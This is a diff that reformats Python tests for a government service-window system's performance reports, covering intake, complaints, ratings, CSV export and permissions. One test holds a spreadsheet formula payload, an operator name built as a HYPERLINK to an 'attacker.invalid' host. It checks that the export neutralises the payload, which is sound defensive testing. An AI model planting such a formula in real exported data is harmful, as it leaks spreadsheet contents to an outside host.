@@ -43,21 +43,40 @@ def _checks(demo, item, missing=()):
 
 
 def accept(demo, ctx, item, when):
-    return intake.accept_case(demo.db, at(ctx, when), item_code=item, applicant=_who(demo),
-                              checks=_checks(demo, item), shipped_calendar=demo.calendar).id
+    return intake.accept_case(
+        demo.db,
+        at(ctx, when),
+        item_code=item,
+        applicant=_who(demo),
+        checks=_checks(demo, item),
+        shipped_calendar=demo.calendar,
+    ).id
 
 
 def approve(demo, case_id, seq, when):
-    change = protocol.Change(seq, protocol.CHANGE_DECISION, "case", case_id, {
-        "case_id": case_id, "case_number": "x", "decision": "approve", "department": "X", "note": "",
-        "status": "approved", "at": dt.datetime.fromisoformat(when).replace(tzinfo=SHANGHAI).isoformat()})
+    change = protocol.Change(
+        seq,
+        protocol.CHANGE_DECISION,
+        "case",
+        case_id,
+        {
+            "case_id": case_id,
+            "case_number": "x",
+            "decision": "approve",
+            "department": "X",
+            "note": "",
+            "status": "approved",
+            "at": dt.datetime.fromisoformat(when).replace(tzinfo=SHANGHAI).isoformat(),
+        },
+    )
     with demo.db.write() as session:
         apply_change(session, change, now=dt.datetime.now(dt.UTC))
 
 
 def _write_fixed_history(demo):
-    auth.create_operator(demo.db, demo.ctx, login="li", display_name="李明", role="operator",
-                         initial_password="Start2026x")
+    auth.create_operator(
+        demo.db, demo.ctx, login="li", display_name="李明", role="operator", initial_password="Start2026x"
+    )
     clerk = auth.log_in(demo.db, login="li", password="Start2026x").ctx
     boss = demo.ctx
     # 1: 李明, MZ-001 (20 days), 5 working days used: on time.
@@ -73,17 +92,37 @@ def _write_fixed_history(demo):
     # 4: 王晓燕, MZ-001, open, 4 used: fine. 5: accepted after the period.
     accept(demo, boss, "MZ-001", "2025-10-13 09:30")
     accept(demo, boss, "MZ-001", "2025-10-20 09:30")
-    intake.notify_missing(demo.db, at(clerk, "2025-10-09 11:00"), item_code="MZ-001", applicant=_who(demo),
-                          checks=_checks(demo, "MZ-001", missing=("M01",)))
-    intake.refuse_application(demo.db, at(boss, "2025-10-17 16:30"), item_code="MZ-001", applicant=_who(demo),
-                              reason="不符合条件", legal_basis="《城市居民最低生活保障条例》第二条")
-    for ctx, level, when in ((clerk, 5, "2025-10-09 11:10"), (clerk, 2, "2025-10-10 09:00"),
-                             (boss, 3, "2025-10-17 17:00"), (boss, 1, "2025-10-18 09:00")):
+    intake.notify_missing(
+        demo.db,
+        at(clerk, "2025-10-09 11:00"),
+        item_code="MZ-001",
+        applicant=_who(demo),
+        checks=_checks(demo, "MZ-001", missing=("M01",)),
+    )
+    intake.refuse_application(
+        demo.db,
+        at(boss, "2025-10-17 16:30"),
+        item_code="MZ-001",
+        applicant=_who(demo),
+        reason="不符合条件",
+        legal_basis="《城市居民最低生活保障条例》第二条",
+    )
+    for ctx, level, when in (
+        (clerk, 5, "2025-10-09 11:10"),
+        (clerk, 2, "2025-10-10 09:00"),
+        (boss, 3, "2025-10-17 17:00"),
+        (boss, 1, "2025-10-18 09:00"),
+    ):
         service_quality.rate_service(demo.db, at(ctx, when), level=level, shipped_calendar=demo.calendar)
     complaint_id, _number = complaints.receive_complaint(
-        demo.db, at(clerk, "2025-10-10 14:00"), complainant_name="周女士", facts="态度生硬",
-        about=complaints.ComplaintAbout(operator_id=clerk.operator_id), owner_id=boss.operator_id,
-        shipped_calendar=demo.calendar)
+        demo.db,
+        at(clerk, "2025-10-10 14:00"),
+        complainant_name="周女士",
+        facts="态度生硬",
+        about=complaints.ComplaintAbout(operator_id=clerk.operator_id),
+        owner_id=boss.operator_id,
+        shipped_calendar=demo.calendar,
+    )
     complaints.reply_to_complaint(demo.db, at(boss, "2025-10-15 10:00"), complaint_id=complaint_id, reply="已致歉")
     return clerk, boss
 
@@ -106,8 +145,9 @@ def figures(report, label):
 
 def test_by_operator(fixed_data):
     demo, _clerk, _boss = fixed_data
-    report = reports.performance_report(demo.db, at(demo.ctx, "2025-10-20 09:00"), start=START, end=END,
-                                        by="operator", shipped_calendar=demo.calendar)
+    report = reports.performance_report(
+        demo.db, at(demo.ctx, "2025-10-20 09:00"), start=START, end=END, by="operator", shipped_calendar=demo.calendar
+    )
     li, wang = figures(report, "李明"), figures(report, "王晓燕")
     assert (li.accepted, li.completed, li.on_time, li.overdue, li.average_handling_days) == (1, 1, 1, 1, 5.0)
     assert (li.notifications, li.refusals, li.rating_count, li.satisfaction_rate) == (1, 0, 2, 0.5)
@@ -121,30 +161,49 @@ def test_by_operator(fixed_data):
 
 def test_by_department_and_center(fixed_data):
     demo, _clerk, _boss = fixed_data
-    report = reports.performance_report(demo.db, demo.ctx, start=START, end=END, by="department",
-                                        shipped_calendar=demo.calendar)
+    report = reports.performance_report(
+        demo.db, demo.ctx, start=START, end=END, by="department", shipped_calendar=demo.calendar
+    )
     civil = figures(report, "市民政局")
     labour = next(row.figures for row in report.rows if row.key == "LBJ")
     assert (civil.accepted, civil.completed, civil.on_time, civil.overdue, civil.notifications, civil.refusals) == (
-        1, 1, 1, 0, 1, 1)
+        1,
+        1,
+        1,
+        0,
+        1,
+        1,
+    )
     assert (labour.accepted, labour.completed, labour.on_time, labour.overdue) == (1, 1, 0, 2)
     unknown = figures(report, "(not specified)")  # ratings without a case, a complaint about a person
     assert (unknown.rating_count, unknown.complaints) == (3, 1)
-    center = reports.performance_report(demo.db, demo.ctx, start=START, end=END, by="center",
-                                        shipped_calendar=demo.calendar)
+    center = reports.performance_report(
+        demo.db, demo.ctx, start=START, end=END, by="center", shipped_calendar=demo.calendar
+    )
     assert [row.label for row in center.rows] == ["市政务服务中心"]
 
 
 def test_csv_export_and_permissions(fixed_data):
     demo, clerk, boss = fixed_data
-    report = reports.performance_report(demo.db, boss, start=START, end=END, by="window", shipped_calendar=demo.calendar)
+    report = reports.performance_report(
+        demo.db, boss, start=START, end=END, by="window", shipped_calendar=demo.calendar
+    )
     text = reports.report_csv(report)
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text[1:])))
     assert rows[0] == ["Period", "2025-10-01", "2025-10-17"]
-    assert rows[1][:10] == ["Window", "Accepted", "Of which by agents", "Of which with materials to follow",
-                            "Of which applied online", "Of which under notify-and-commit", "Verifications due",
-                            "Verifications overdue", "Commitments found false", "Completed"]
+    assert rows[1][:10] == [
+        "Window",
+        "Accepted",
+        "Of which by agents",
+        "Of which with materials to follow",
+        "Of which applied online",
+        "Of which under notify-and-commit",
+        "Verifications due",
+        "Verifications overdue",
+        "Commitments found false",
+        "Completed",
+    ]
     assert rows[-1][:12] == ["Total", "2", "0", "0", "0", "0", "0", "0", "0", "2", "1", "2"]
     with pytest.raises(PermissionDenied):
         reports.performance_report(demo.db, clerk, start=START, end=END, by="window", shipped_calendar=demo.calendar)
@@ -155,12 +214,14 @@ def test_csv_export_and_permissions(fixed_data):
 def test_csv_export_gives_a_name_that_starts_a_formula_to_the_spreadsheet_as_text(demo):
     # A name as the hub (or an administrator) may publish it: a spreadsheet would run it.
     formula = '=HYPERLINK("http://attacker.invalid/?"&A3,"李明")'
-    auth.create_operator(demo.db, demo.ctx, login="li", display_name=formula, role="operator",
-                         initial_password="Start2026x")
+    auth.create_operator(
+        demo.db, demo.ctx, login="li", display_name=formula, role="operator", initial_password="Start2026x"
+    )
     clerk = auth.log_in(demo.db, login="li", password="Start2026x").ctx
     accept(demo, clerk, "MZ-001", "2025-10-09 09:00")
-    report = reports.performance_report(demo.db, demo.ctx, start=START, end=END, by="operator",
-                                        shipped_calendar=demo.calendar)
+    report = reports.performance_report(
+        demo.db, demo.ctx, start=START, end=END, by="operator", shipped_calendar=demo.calendar
+    )
     rows = list(csv.reader(io.StringIO(reports.report_csv(report)[1:])))
     assert ["'" + formula, "1"] == rows[2][:2]
     assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell != "-"]
@@ -184,12 +245,16 @@ def _every_case_of_the_center(demo, ctx, calendar_now):
         for case in session.scalars(select(m.Case).where(m.Case.center_code == ctx.center_code)):
             timeline = [(event.at.astimezone(SHANGHAI).date(), event.to_status) for event in case.events]
             department, promised = items[case.item_code]
-            facts.append(CaseFact(
-                Keys(case.window_id, case.operator_id, department, ctx.center_code), case.accepted_day, promised,
-                completed_day=next((day for day, status in timeline if status == "completed"), None),
-                withdrawn_day=next((day for day, status in timeline if status == "withdrawn"), None),
-                suspensions=tuple(suspensions_from(timeline)),
-            ))
+            facts.append(
+                CaseFact(
+                    Keys(case.window_id, case.operator_id, department, ctx.center_code),
+                    case.accepted_day,
+                    promised,
+                    completed_day=next((day for day, status in timeline if status == "completed"), None),
+                    withdrawn_day=next((day for day, status in timeline if status == "withdrawn"), None),
+                    suspensions=tuple(suspensions_from(timeline)),
+                )
+            )
     return facts
 
 
@@ -213,11 +278,15 @@ def _write_varied_history(demo):
             cases.change_status(demo.db, at(ctx, when(1)), case_id=case, action=CaseAction.SUSPEND, note="缺材料")
             if fate == 2:
                 continue
-            cases.change_status(demo.db, at(ctx, when(chance.randint(3, 12))), case_id=case,
-                                action=CaseAction.RESUME)
+            cases.change_status(demo.db, at(ctx, when(chance.randint(3, 12))), case_id=case, action=CaseAction.RESUME)
         if fate == 3:
-            cases.change_status(demo.db, at(ctx, when(chance.randint(1, 20))), case_id=case,
-                                action=CaseAction.WITHDRAW, note="申请人撤回")
+            cases.change_status(
+                demo.db,
+                at(ctx, when(chance.randint(1, 20))),
+                case_id=case,
+                action=CaseAction.WITHDRAW,
+                note="申请人撤回",
+            )
             continue
         if fate in (0, 1, 4):  # decided and completed, sooner or later
             seq += 1
@@ -242,11 +311,17 @@ def varied_history(_varied_snapshot, data_dir):
         yield demo, ctx
 
 
-@pytest.mark.parametrize("start,end", [
-    (dt.date(2025, 9, 1), dt.date(2025, 9, 30)), (dt.date(2025, 10, 1), dt.date(2025, 10, 17)),
-    (dt.date(2025, 10, 9), dt.date(2025, 10, 9)), (dt.date(2025, 8, 1), dt.date(2025, 12, 31)),
-    (dt.date(2025, 11, 1), dt.date(2025, 11, 30)), (dt.date(2025, 11, 14), dt.date(2025, 11, 17)),
-])
+@pytest.mark.parametrize(
+    "start,end",
+    [
+        (dt.date(2025, 9, 1), dt.date(2025, 9, 30)),
+        (dt.date(2025, 10, 1), dt.date(2025, 10, 17)),
+        (dt.date(2025, 10, 9), dt.date(2025, 10, 9)),
+        (dt.date(2025, 8, 1), dt.date(2025, 12, 31)),
+        (dt.date(2025, 11, 1), dt.date(2025, 11, 30)),
+        (dt.date(2025, 11, 14), dt.date(2025, 11, 17)),
+    ],
+)
 def test_the_report_reads_only_what_counts_and_agrees_with_counting_every_case(varied_history, start, end):
     from windowdesk.domain.assessment import build_report
     from windowdesk.services.working_days import calendar_in_force
@@ -261,10 +336,13 @@ def test_the_report_reads_only_what_counts_and_agrees_with_counting_every_case(v
         assert report.total.accepted + report.total.completed + report.total.overdue > 0
         case_figures = ("accepted", "completed", "on_time", "late", "open_overdue", "average_handling_days")
         assert {k: report.total.as_dict()[k] for k in case_figures} == {
-            k: reference.total.as_dict()[k] for k in case_figures}
-        assert [(row.key, [row.figures.as_dict()[k] for k in case_figures]) for row in report.rows
-                if any(row.figures.as_dict()[k] for k in case_figures)] == [
-            (row.key, [row.figures.as_dict()[k] for k in case_figures]) for row in reference.rows]
+            k: reference.total.as_dict()[k] for k in case_figures
+        }
+        assert [
+            (row.key, [row.figures.as_dict()[k] for k in case_figures])
+            for row in report.rows
+            if any(row.figures.as_dict()[k] for k in case_figures)
+        ] == [(row.key, [row.figures.as_dict()[k] for k in case_figures]) for row in reference.rows]
 
 
 def test_what_the_hub_refused_to_take_is_not_counted(fixed_data):
@@ -275,15 +353,22 @@ def test_what_the_hub_refused_to_take_is_not_counted(fixed_data):
     from windowdesk.storage import models as m
 
     def li():
-        report = reports.performance_report(demo.db, at(demo.ctx, "2025-10-20 09:00"), start=START, end=END,
-                                            by="operator", shipped_calendar=demo.calendar)
+        report = reports.performance_report(
+            demo.db,
+            at(demo.ctx, "2025-10-20 09:00"),
+            start=START,
+            end=END,
+            by="operator",
+            shipped_calendar=demo.calendar,
+        )
         return figures(report, "李明")
 
     assert (li().accepted, li().overdue) == (1, 1)  # LB-002, open past its one day
     with demo.db.write() as session:
         case_id = session.scalars(select(m.Case.id).where(m.Case.item_code == "LB-002")).one()
-        accepted = session.scalars(select(m.OutboxEvent).where(
-            m.OutboxEvent.kind == "case.accepted", m.OutboxEvent.entity_id == case_id)).one()
+        accepted = session.scalars(
+            select(m.OutboxEvent).where(m.OutboxEvent.kind == "case.accepted", m.OutboxEvent.entity_id == case_id)
+        ).one()
         accepted.state, accepted.last_error = "rejected", "事项 LB-002 不在市级平台发布的任何服务目录中。"
     assert (li().accepted, li().overdue) == (0, 0)
 
